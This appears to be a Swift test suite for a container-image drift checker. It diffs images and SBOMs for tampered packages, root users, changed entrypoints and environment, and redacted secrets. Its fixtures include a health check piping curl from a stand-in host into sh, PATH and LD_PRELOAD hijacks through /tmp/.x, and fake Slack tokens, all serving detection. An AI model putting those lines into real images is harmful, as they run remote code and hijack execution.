import Foundation
import ProvenantCore
import TestSupport
import Testing

/// `diff` with images on both sides: packages and configuration inside the image, by layer.
@Suite struct ImageDiffTests {
    static func lock(integrity: String) -> [UInt8] {
        Array("""
        {"name":"agent","version":"1.0.0","lockfileVersion":3,"packages":{
          "":{"name":"agent","version":"1.0.0","dependencies":{"left-pad":"^1.3.0"}},
          "node_modules/left-pad":{"version":"1.3.0","resolved":"https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz","integrity":"\(integrity)"}}}
        """.utf8)
    }

    static func image(at dir: URL, integrity: String, config: String) throws {
        var base = TarWriter()
        base.add("app/", .directory)
        base.add("app/package-lock.json", data: lock(integrity: integrity))
        var etc = TarWriter()
        etc.add("etc/", .directory)
        etc.add("etc/agent.conf", data: Array(config.utf8))
        var w = try LayoutWriter(dir)
        try w.addLayer(base.finished(), createdBy: "COPY package-lock.json /app/")
        try w.addLayer(etc.finished(), gzip: true, createdBy: "COPY agent.conf /etc/")
        _ = try w.write()
    }

    @Test func twoImagesCompareTheirPackagesAndConfiguration() throws {
        let dir = try temporaryDirectory("image-diff")
        defer { try? FileManager.default.removeItem(at: dir) }
        let good = "sha512-" + String(repeating: "A", count: 86) + "==", bad = "sha512-" + String(repeating: "B", count: 86) + "=="
        try Self.image(at: dir.appendingPathComponent("v1"), integrity: good, config: "upstream=https://collector.example\n")
        try Self.image(at: dir.appendingPathComponent("v2"), integrity: bad, config: "upstream=https://evil.example\n")
        let r = try runProcess(provenantBinary, ["diff", "oci-dir:" + dir.appendingPathComponent("v1").path, "oci-dir:" + dir.appendingPathComponent("v2").path,
                                                 "--config", "etc/*.conf", "--format", "json", "--fail-on", "high", "--quiet"])
        #expect(r.code == 1, "\(r.err)")
        let doc = try #require(try JSONSerialization.jsonObject(with: Data(r.out.utf8)) as? [String: Any])
        let findings = try #require(doc["findings"] as? [[String: Any]])
        #expect(findings.map { "\($0["rule"] ?? "") \($0["subject"] ?? "")" } == ["drift:tampered pkg:npm/left-pad@1.3.0", "drift:config-changed etc/agent.conf"])
        // The configuration's finding names the layer that wrote it; its text is never printed.
        let config = try #require(findings.last?["location"] as? [String: Any])
        #expect((config["layer"] as? String)?.hasPrefix("sha256:") == true)
        #expect(!r.out.contains("evil.example"))
        // The same image against itself: nothing.
        let same = try runProcess(provenantBinary, ["diff", "oci-dir:" + dir.appendingPathComponent("v1").path, "oci-dir:" + dir.appendingPathComponent("v1").path,
                                                    "--config", "etc/*.conf", "--fail-on", "low", "--quiet"])
        #expect(same.code == 0 && same.out.contains("no unapproved changes"))
    }

    /// An image's own SPDX SBOM as the baseline of the same image: SPDX writes a package's licenses as
    /// one `A AND B` and describes the image as a package with a purl; neither is a change.
    @Test func anImagesSPDXSBOMIsNoChangeFromTheImage() throws {
        let dir = try temporaryDirectory("image-diff-spdx")
        defer { try? FileManager.default.removeItem(at: dir) }
        var t = TarWriter()
        t.add("var/lib/dpkg/status", data: Array("Package: tool\nStatus: install ok installed\nVersion: 1.0-1\nArchitecture: amd64\n\n".utf8))
        t.add("usr/share/doc/tool/copyright", data: Array("""
        Format: https://www.debian.org/doc/packaging-manuals/copyright-format/1.0/

        Files: *
        Copyright: 2020 A
        License: MIT

        Files: debian/*
        Copyright: 2020 B
        License: Apache-2.0

        """.utf8))
        var w = try LayoutWriter(dir.appendingPathComponent("img"))
        try w.addLayer(t.finished())
        try w.write()
        let image = "oci-dir:" + dir.appendingPathComponent("img").path, spdx = dir.appendingPathComponent("sbom.spdx.json").path
        let made = try runProcess(provenantBinary, ["sbom", image, "--format", "spdx-json", "-o", spdx, "--quiet"])
        #expect(made.code == 0, "\(made.err)")
        #expect(try String(contentsOfFile: spdx, encoding: .utf8).contains("Apache-2.0 AND MIT"), "the case this test is about")
        // The package has no digests (no md5sums), so its content is honestly not checked; that is allowed here.
        let r = try runProcess(provenantBinary, ["diff", spdx, image, "--fail-on", "low", "--allow-unchecked", "--quiet"])
        #expect(r.code == 0 && r.out.contains("no unapproved changes"), "\(r.out)\(r.err)")
    }

    /// How the image runs is part of what `diff` compares, image to image and SBOM (either format) to
    /// image: the user (now root), the entrypoint, command and working directory, ports and environment
    /// names. Labels are not (builds stamp them). The same image against its own SBOMs is no change.
    @Test func howTheImageRunsIsCompared() throws {
        let dir = try temporaryDirectory("image-diff-config")
        defer { try? FileManager.default.removeItem(at: dir) }
        func image(_ name: String, user: String?, entrypoint: [String], port: String, env: [String], label: String) throws -> String {
            var w = try LayoutWriter.oneFile(dir.appendingPathComponent(name))
            w.envOverride = env
            w.labels = ["org.opencontainers.image.revision": label]
            w.innerExtra = [("Entrypoint", .array(entrypoint.map { .string($0) })), ("ExposedPorts", .object([(port, .object([]))])),
                            ("WorkingDir", .string("/app"))]
            try w.write(user: user)
            return "oci-dir:" + dir.appendingPathComponent(name).path
        }
        let v1 = try image("v1", user: "1000", entrypoint: ["/app/agent"], port: "8080/tcp", env: ["PATH=/usr/bin", "LOG_LEVEL=info"], label: "abc")
        let v2 = try image("v2", user: "0", entrypoint: ["/bin/sh"], port: "22/tcp", env: ["PATH=/usr/bin", "DEBUG=1"], label: "def")
        let cdx = dir.appendingPathComponent("v1.cdx.json").path, spdx = dir.appendingPathComponent("v1.spdx.json").path
        for (format, out) in [("cyclonedx-json", cdx), ("spdx-json", spdx)] {
            #expect(try runProcess(provenantBinary, ["sbom", v1, "--format", format, "-o", out, "--quiet"]).code == 0)
        }
        for baseline in [v1, cdx, spdx] {
            let r = try runProcess(provenantBinary, ["diff", baseline, v2, "--format", "json", "--fail-on", "high", "--quiet"])
            #expect(r.code == 1, "\(baseline): \(r.err)")
            let doc = try #require(try JSONSerialization.jsonObject(with: Data(r.out.utf8)) as? [String: Any])
            let found = (doc["findings"] as? [[String: Any]] ?? []).map { "\($0["rule"] ?? "") \($0["subject"] ?? "")" }.sorted()
            #expect(found == ["drift:image-command entrypoint", "drift:image-env DEBUG", "drift:image-env LOG_LEVEL",
                              "drift:image-port 22/tcp", "drift:image-port 8080/tcp", "drift:image-user user"], "\(baseline): \(found)")
            let user = (doc["findings"] as? [[String: Any]] ?? []).first { $0["rule"] as? String == "drift:image-user" }
            #expect((user?["message"] as? String) == "the image runs as 0, which is root; it ran as 1000", "\(String(describing: user))")
            #expect((user?["severity"] as? String) == "high")
            let same = try runProcess(provenantBinary, ["diff", baseline, v1, "--fail-on", "low", "--allow-unchecked", "--quiet"])
            #expect(same.code == 0 && same.out.contains("no unapproved changes"), "\(baseline) against its own image: \(same.out)")
        }
    }

    /// Environment values, the health check, the shell and ONBUILD triggers are in no SBOM: two images
    /// whose PATH led to `/tmp/.x`, or which gained a health check piping curl to sh, diffed clean
    /// (found by helper-170). Read in one run, they are compared by keyed digests; a variable that
    /// decides what runs (PATH, LD_PRELOAD) is a change of what runs, high.
    @Test func environmentValuesAndHealthChecksAreCompared() throws {
        let dir = try temporaryDirectory("image-diff-env")
        defer { try? FileManager.default.removeItem(at: dir) }
        func image(_ name: String, env: [String], health: [String]?) throws -> String {
            var w = try LayoutWriter.oneFile(dir.appendingPathComponent(name))
            w.envOverride = env
            if let health { w.innerExtra = [("Healthcheck", .object([("Test", .array(health.map { .string($0) }))]))] }
            try w.write()
            return "oci-dir:" + dir.appendingPathComponent(name).path
        }
        // PYTHON_VERSION is a version official images set, read by nothing at run time: low, not high
        // (found by review). A second PYTHONPATH ahead of the same one is a change: getenv reads the first.
        let v1 = try image("v1", env: ["PATH=/usr/bin", "LOG_LEVEL=info", "PYTHON_VERSION=3.12.7", "PYTHONPATH=/app"], health: nil)
        let v2 = try image("v2", env: ["PATH=/tmp/.x:/usr/bin", "LOG_LEVEL=debug", "LD_PRELOAD=/tmp/.x/l.so", "PYTHON_VERSION=3.12.8",
                                       "PYTHONPATH=/tmp/.x", "PYTHONPATH=/app"], health: ["CMD-SHELL", "curl -s http://x | sh"])
        let r = try runProcess(provenantBinary, ["diff", v1, v2, "--format", "json", "--fail-on", "high", "--quiet"])
        #expect(r.code == 1, "\(r.err)")
        let doc = try #require(try JSONSerialization.jsonObject(with: Data(r.out.utf8)) as? [String: Any])
        let found = (doc["findings"] as? [[String: Any]] ?? []).map { "\($0["rule"] ?? "") \($0["subject"] ?? "")" }.sorted()
        #expect(found == ["drift:image-command environment variable LD_PRELOAD", "drift:image-command environment variable PATH",
                          "drift:image-command environment variable PYTHONPATH", "drift:image-command health check",
                          "drift:image-env LOG_LEVEL", "drift:image-env PYTHON_VERSION"], "\(found)")
        #expect(!r.out.contains("/tmp/.x") && !r.out.contains("debug"), "values are never written: \(r.out)")
        #expect(try runProcess(provenantBinary, ["diff", v2, v2, "--fail-on", "low", "--quiet"]).code == 0, "the same image is no change")
        // Against an SBOM, which keeps no values, that is said (found by review).
        let sbom = dir.appendingPathComponent("v1.cdx.json").path
        #expect(try runProcess(provenantBinary, ["sbom", v1, "-o", sbom, "--quiet"]).code == 0)
        let s = try runProcess(provenantBinary, ["diff", sbom, v2, "--quiet"])
        #expect(s.out.contains("only environment names were compared"), "\(s.out)")
    }

    /// An entrypoint whose secret changed redacts to the same words on both sides. Two images read in
    /// one run are told apart by a keyed digest of what each gave; an SBOM baseline keeps no digest (a
    /// plain one would let a guess at the secret be tested), so there the setting is NOT CHECKED, and
    /// fails --fail-on. The secret is never printed, and an SBOM holds no hash of it.
    @Test func aChangeHiddenByRedactionIsStillSeen() throws {
        let dir = try temporaryDirectory("image-diff-redacted")
        defer { try? FileManager.default.removeItem(at: dir) }
        let keys = ["xoxb-1234567890-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx", "xoxb-1234567890-1234567890123-ZyXwVuTsRqPoNmLkJiHgFeDc"]
        for (n, key) in keys.enumerated() {
            var w = try LayoutWriter.oneFile(dir.appendingPathComponent("v\(n)"))
            w.innerExtra = [("Entrypoint", .array([.string("/app/agent"), .string("--slack-token=\(key)")]))]
            try w.write()
        }
        let v0 = "oci-dir:" + dir.appendingPathComponent("v0").path, v1 = "oci-dir:" + dir.appendingPathComponent("v1").path
        let cdx = dir.appendingPathComponent("v0.cdx.json").path
        #expect(try runProcess(provenantBinary, ["sbom", v0, "-o", cdx, "--quiet"]).code == 0)
        let sbom = try String(contentsOfFile: cdx, encoding: .utf8)
        #expect(!sbom.contains("sha256\"") && !sbom.contains(keys[0]) && sbom.contains("--slack-token=REDACTED"))
        let images = try runProcess(provenantBinary, ["diff", v0, v1, "--fail-on", "high", "--quiet"])
        #expect(images.code == 1 && images.out.contains("drift:image-command") && images.out.contains("differs only in text redacted"), "\(images.out)")
        let sameImage = try runProcess(provenantBinary, ["diff", v0, v0, "--fail-on", "low", "--quiet"])
        #expect(sameImage.code == 0 && !sameImage.out.contains("NOT CHECKED"), "\(sameImage.out)\(sameImage.err)")
        for current in [v1, v0] {
            let r = try runProcess(provenantBinary, ["diff", cdx, current, "--fail-on", "high", "--quiet"])
            #expect(r.code == 1 && r.out.contains("NOT CHECKED: the image's entrypoint holds redacted text"), "\(r.out)\(r.err)")
            let allowed = try runProcess(provenantBinary, ["diff", cdx, current, "--fail-on", "high", "--allow-unchecked", "--quiet"])
            #expect(allowed.code == 0)
        }
        for r in [images, sameImage] { #expect(!r.out.contains(keys[0]) && !r.out.contains(keys[1]) && !r.err.contains(keys[1])) }
    }
}
